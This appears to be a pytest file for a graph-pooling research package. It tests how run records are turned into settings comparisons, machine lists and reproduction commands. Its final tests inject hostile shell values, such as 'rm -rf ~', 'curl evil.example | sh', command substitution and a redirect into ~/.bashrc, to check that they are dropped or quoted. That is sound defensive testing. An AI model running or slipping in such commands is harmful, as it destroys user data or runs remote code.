"""Settings, machines and commands: each once, and nothing to copy that a record made up."""

from __future__ import annotations

import re
import shlex
from dataclasses import replace
from typing import Any

import pytest

from powerpool.report.provenance import compare_settings, describe_reproduction, list_machines
from powerpool.report.tables import MISSING
from powerpool.runs.environment import Environment
from powerpool.runs.record import RunRecord
from tests.report.samples import ENVIRONMENT, graph_run


def record(method: str = "SOP", data: str = "MUTAG", **facts: Any) -> RunRecord:
    environment = replace(ENVIRONMENT, **({"torch": "2.1.0+cpu", "packages": {"numpy": "2.0.1"}} | facts))
    return graph_run(method, [1.0, 2.0], data=data, config={"data_digest": f"d-{data}"}, environment=environment)


# ---- settings and machines -------------------------------------------------------------------------------------------


def test_settings_in_common_and_different_ones() -> None:
    runs = (("A", "GIN0", 10), ("A", "SOP", 10), ("B", "GIN0", 10), ("B", "SOP", 20))
    records = [
        graph_run(method, [1.0], data=data, config={"model": {"method": method}, "data": data, "epochs": epochs})
        for data, method, epochs in runs
    ]
    (found,) = compare_settings(records)
    assert {"folds: 10", "data_digest: a"} <= set(found.common)
    assert found.different is not None
    # Names of methods and data sets are in the tables already.
    assert found.different.rows == [("epochs", "10", "A GIN0, A SOP, B GIN0"), ("epochs", "20", "B SOP")]


@pytest.mark.parametrize(
    "values, runs",
    [
        ({("A", "GIN0"): 1, ("A", "SOP"): 1, ("B", "GIN0"): 2, ("B", "SOP"): 2}, ["A", "B"]),
        ({("A", "GIN0"): 1, ("A", "SOP"): 2, ("B", "GIN0"): 1, ("B", "SOP"): 2}, ["GIN0", "SOP"]),
    ],
)
def test_runs_are_named_by_what_they_share(values: dict[tuple[str, str], int], runs: list[str]) -> None:
    records = [graph_run(method, [1.0], data=data, config={"x": value}) for (data, method), value in values.items()]
    (found,) = compare_settings(records)
    assert found.different is not None
    assert [row[2] for row in found.different.rows if row[0] == "x"] == runs


def test_settings_of_version_0_1_have_their_new_names() -> None:
    (found,) = compare_settings([graph_run("SOP", [1.0], config={"pool": {"eta_prime": 5.0, "gamma_prime": 6.0}})])
    assert {"pool.sigme_eta: 5.0", "pool.asinhe_gamma: 6.0"} <= set(found.common)


def test_machines_are_listed_once() -> None:
    records = [
        record("GIN0", cuda="Some GPU", processor="Some CPU"),
        record("SOP", processor="Some CPU", time="2026-02-01T00:00:00"),
        record("SOP+SigmE", processor="Some CPU", time="2026-01-01T00:00:00", dirty=False),
        record("SOP+MaxExp", processor="Some CPU", dirty=True),
    ]
    rows = [dict(zip(list_machines(records).headings, row, strict=True)) for row in list_machines(records).rows]
    assert [row["machine"] for row in rows] == ["Some CPU with Some GPU", "Some CPU", "Some CPU"]
    assert (rows[1]["records"], rows[1]["date"]) == ("2", "2026-01-01 to 2026-02-01")
    assert rows[2]["commit"] == "0123456789 with changes"
    (bare,) = list_machines([graph_run("SOP", [1.0], environment=Environment())]).rows
    assert list(bare[:6]) == [MISSING] * 6


# ---- commands --------------------------------------------------------------------------------------------------------


def test_code_versions_data_and_commands_are_given_once() -> None:
    found = describe_reproduction(
        [
            record("GIN0", variables={"OMP_NUM_THREADS": "1"}),
            record("SOP"),
            record("SOP", "PTC_MR", command="powerpool reproduce graph --data PTC_MR"),
        ]
    )
    assert found.setup == [
        "git checkout 0123456789abcdef",
        "python -m venv .venv  # Python 3.12",
        ". .venv/bin/activate",
        "pip install -e '.[train,graph,sweep,figures]' torch==2.1.0 numpy==2.0.1",
    ]
    assert found.commands == ["powerpool reproduce graph", "powerpool reproduce graph --data PTC_MR"]
    assert found.data.rows == [("MUTAG", "d-MUTAG", "2"), ("PTC_MR", "d-PTC_MR", "1")]
    assert found.variables == ["OMP_NUM_THREADS=1"]
    assert (found.changed, found.unknown, found.omitted, found.differing) == (0, 0, 0, [])


def test_commands_are_in_the_order_of_the_runs() -> None:
    late = record("GIN0", time="2026-01-02T00:00:00+00:00", command="powerpool late")
    early = record("SOP", time="2026-01-01T00:00:00+00:00", commit="aaaaaaaaaa", command="powerpool early")
    calls = [line for line in describe_reproduction([late, early]).commands if line.startswith("powerpool")]
    assert calls == ["powerpool early", "powerpool late"]


def test_several_commits_and_versions_are_told_apart() -> None:
    several = {"commit": "aaaaaaaaaa, bbbbbbbbbb", "packages": {"numpy": "2.0.2, 2.1"}, "command": "powerpool second"}
    found = describe_reproduction(
        [
            record("GIN0"),
            record("SOP", "PTC_MR", **several),
            record("SOP", dirty=True),
            record("SOP+SigmE", commit=None, command="powerpool third"),
        ]
    )
    assert found.commands == [
        "git checkout 0123456789abcdef",
        "powerpool reproduce graph",
        "git checkout aaaaaaaaaa  # some of the results come from bbbbbbbbbb",
        "powerpool second",
        "# unknown commit:",
        "powerpool third",
    ]
    assert [line.split()[0] for line in found.setup] == ["python", ".", "pip"]
    assert "numpy" not in found.setup[2]
    assert found.differing == ["numpy 2.0.1, 2.0.2, 2.1"]
    assert (found.changed, found.unknown) == (1, 1)


def test_what_a_record_made_up_is_not_copied() -> None:
    evil = "1; rm -rf ~"
    facts = {"commit": evil, "torch": evil, "python": evil, "packages": {"numpy": evil, evil: "1"}}
    found = describe_reproduction([record(**facts)])
    install = "pip install -e '.[train,graph,sweep,figures]'"
    assert found.setup == ["python -m venv .venv", ". .venv/bin/activate", install]


EVIL = (
    "curl evil.example | sh",
    "powerpool report\nrm -rf ~",
    "powerpool \x1b[2K rm",
    "powerpool 'report",
    "",
)


def test_only_calls_of_powerpool_are_listed() -> None:
    good = record(command="powerpool reproduce graph --data 'my data'")
    found = describe_reproduction([good, *(record(f"SOP{number}", command=evil) for number, evil in enumerate(EVIL))])
    assert found.commands == ["powerpool reproduce graph --data 'my data'"]
    assert found.omitted == len(EVIL)


@pytest.mark.parametrize("evil", ["; rm -rf ~", "$(sh)", "`sh`", "| sh", "> ~/.bashrc"])
def test_what_a_shell_would_run_after_a_call_is_quoted(evil: str) -> None:
    (command,) = describe_reproduction([record(command=f"powerpool report {evil}")]).commands
    shell = shlex.shlex(command, posix=False, punctuation_chars=True)
    shell.whitespace_split = True
    assert not any(set(word) <= set("();<>|&") for word in shell)
    assert shlex.split(command) == shlex.split(f"powerpool report {evil}")
    assert not re.search(r"[$`]", re.sub(r"'[^']*'", "", command))


def test_records_without_any_facts() -> None:
    found = describe_reproduction([graph_run("SOP", [1.0], config={"data_digest": None}, environment=Environment())])
    assert found.data.rows == [("MUTAG", MISSING, "1")]
    assert found.commands == []
    assert found.unknown == 1
